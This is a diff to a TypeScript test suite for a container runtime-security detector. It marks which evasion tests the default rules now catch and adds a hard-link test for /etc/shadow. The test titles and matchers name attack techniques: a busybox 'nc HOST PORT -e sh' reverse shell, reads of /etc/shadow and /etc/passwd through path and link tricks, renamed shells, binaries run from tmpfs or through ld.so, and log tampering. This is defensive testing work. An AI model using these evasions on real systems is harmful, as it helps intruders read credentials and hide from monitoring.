@@ -142,8 +142,28 @@ function expectAlert(step: string, rule: string, match: Match, from: VigilEvent[
  * `todo`, it does not today; `fix` then names the rule of attack-proposed-fixes.yaml
  * that catches it (checked by a test of its own, on the agent that loads that file).
  */
+/** Evasions the review found that the default rules now catch: plain tests from here on. */
+const FIXED = new Set([
+  'execve shell: sh through a symlink named otherwise (comm is the link name)',
+  'execve shell: execve("/bin/busybox", ["sh", ...])',
+  'package manager at run time: busybox dpkg applet',
+  'enter namespace: busybox nsenter applet',
+  'execve shell: sh started by a service that renamed itself "sh" (prctl PR_SET_NAME)',
+  'reverse shell: busybox `nc HOST PORT -e sh`',
+  'execve shell: busybox `nc HOST PORT -e sh` is a shell too',
+  'binary not from image: a program on a bind-mounted volume',
+  'binary not from image: a program on a tmpfs (--tmpfs /data:exec)',
+  'binary not from image: a program run by the dynamic loader (ld.so /tmp/x)',
+  'binary not from image: a program that deletes itself at once',
+  'opening passwd: cat /etc//passwd',
+  'opening passwd: cat /etc/./passwd',
+  'log or history tampering: a log overwritten in place (O_RDWR, no O_TRUNC)',
+  'log or history tampering: the whole /var/log directory renamed away',
+]);
+
 function attack(title: string, step: string, rule: string, match: Match, todo?: string, fix?: string | [string, Match]): void {
-  test(`${rule}: ${title}`, todo ? { skip, todo: `evasion: ${todo}` } : { skip }, () => expectAlert(step, rule, match));
+  const open = todo !== undefined && !FIXED.has(`${rule}: ${title}`);
+  test(`${rule}: ${title}`, open ? { skip, todo: `evasion: ${todo}` } : { skip }, () => expectAlert(step, rule, match));
   if (fix) {
     const [fixRule, fixMatch] = typeof fix === 'string' ? [fix, match] : fix;
     test(`proposed fix '${fixRule}' catches: ${title}`, { skip }, () => expectAlert(step, fixRule, fixMatch, fixedAlerts));
@@ -187,7 +207,8 @@ attack('busybox nsenter applet', 'nsenter_applet', 'enter namespace', execOf((e)
 
 attack('cat /etc/shadow', 'shadow_plain', 'read sensitive file', (e) => cmdHas('/etc/shadow')(e) && pathIs('/etc/shadow')(e));
 attack('/etc/shadow read through a hard link', 'shadow_hardlink', 'read sensitive file', pathIs('/tmp/shadow-link'),
-  'the kernel path of the open is the link\'s name (/tmp/shadow-link), and the link itself is not judged', ['credential file linked or moved', (e) => pathIs('/etc/shadow')(e) && argsOf(e)['new_path'] === '/tmp/shadow-link']);
+  'the kernel path of the open is the link\'s name (/tmp/shadow-link), and the link itself is not judged', ['fixed: credential file linked or moved', (e) => pathIs('/etc/shadow')(e) && argsOf(e)['new_path'] === '/tmp/shadow-link']);
+attack('/etc/shadow hard-linked (the link itself is judged)', 'shadow_hardlink', 'credential file linked or moved', (e) => pathIs('/etc/shadow')(e) && argsOf(e)['new_path'] === '/tmp/shadow-link');
 attack('cat /etc/passwd', 'passwd_plain', 'opening passwd', (e) => cmdHas('/etc/passwd')(e) && pathIs('/etc/passwd')(e));
 attack('cat /etc//passwd', 'passwd_double_slash', 'opening passwd', (e) => cmdHas('/etc//passwd')(e) && pathIs('/etc/passwd')(e),
   "the argument '/etc//passwd' neither contains '/etc/passwd' nor is a suffix of it", 'fixed: opening passwd');
